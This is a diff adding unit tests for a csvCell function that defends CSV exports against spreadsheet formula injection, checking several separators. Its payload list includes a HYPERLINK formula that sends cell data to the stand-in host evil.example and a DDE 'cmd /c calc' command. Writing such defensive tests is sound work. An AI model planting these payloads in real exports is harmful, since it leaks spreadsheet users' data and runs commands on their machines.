@@ -1,4 +1,4 @@
-import { csvField, parseCsv } from './csv';
+import { csvCell, csvField, parseCsv } from './csv';
 
 const fields = (text: string) => parseCsv(text).map((r) => r.fields);
 
@@ -90,5 +90,78 @@ describe('csvField', () => {
     expect(csvField('plain')).toBe('plain');
     expect(csvField('a,b')).toBe('"a,b"');
     expect(csvField('say "x"')).toBe('"say ""x"""');
+  });
+});
+
+describe('csvCell (exports: formula injection)', () => {
+  // Splits one line as a spreadsheet whose list separator is `sep` would: a quote opening a cell keeps it whole.
+  const cellsAs = (line: string, sep: string) => {
+    const cells: string[] = [];
+    let cell = '';
+    let quoted = false;
+    let atStart = true;
+    for (let i = 0; i < line.length; i++) {
+      const c = line[i];
+      if (quoted) {
+        if (c !== '"') {
+          cell += c;
+        } else if (line[i + 1] === '"') {
+          cell += '"';
+          i++;
+        } else {
+          quoted = false;
+        }
+      } else if (c === '"' && atStart) {
+        quoted = true;
+        atStart = false;
+      } else if (c === sep) {
+        cells.push(cell);
+        cell = '';
+        atStart = true;
+      } else {
+        cell += c;
+        atStart = false;
+      }
+    }
+    return [...cells, cell];
+  };
+  const looksLikeFormula = (cell: string) => /^[ \t\r\n]*[=+\-@]/.test(cell);
+  const withoutQuotes = (s: string) => s.replace(/'/g, '');
+
+  const payloads = [
+    'a;=HYPERLINK("http://evil.example/?"&A1,"click")',
+    'x,\t=1+1',
+    '@SUM(1)',
+    '-2+3',
+    '+1',
+    '\r=cmd|"/c calc"!A0',
+    '\t=1',
+    ' =1+1',
+    'safe;  +cmd',
+    'a\tb\t@x',
+    'line\n=2',
+  ];
+
+  it.each(payloads)('no cell of %j reads as a formula whichever separator splits cells', (payload) => {
+    const line = `before,${csvCell(payload)},after`;
+    for (const sep of [',', ';', '\t']) {
+      const cells = cellsAs(line, sep);
+      expect(cells.filter(looksLikeFormula)).toEqual([]);
+    }
+    // ...and read as CSV the cell comes back whole, with only 's added.
+    const cells = fields(`${line}\n`)[0] ?? [];
+    expect(cells).toHaveLength(3);
+    expect(looksLikeFormula(cells[1])).toBe(false);
+    expect(withoutQuotes(cells[1])).toBe(withoutQuotes(payload));
+  });
+
+  it('leaves ordinary text alone and quotes only what needs it', () => {
+    expect(csvCell('image-alt')).toBe('image-alt');
+    expect(csvCell('https://shop.example/?a=1&b=2')).toBe('https://shop.example/?a=1&b=2');
+    expect(csvCell('<img src="b,c.png">')).toBe('"<img src=""b,c.png"">"');
+    expect(csvCell('a; b')).toBe('"a; b"');
+    expect(csvCell('1.4.3 2.4.4')).toBe('1.4.3 2.4.4');
+    expect(csvCell('=1')).toBe("'=1");
+    expect(csvCell('a;=1')).toBe('"a;\'=1"');
   });
 });
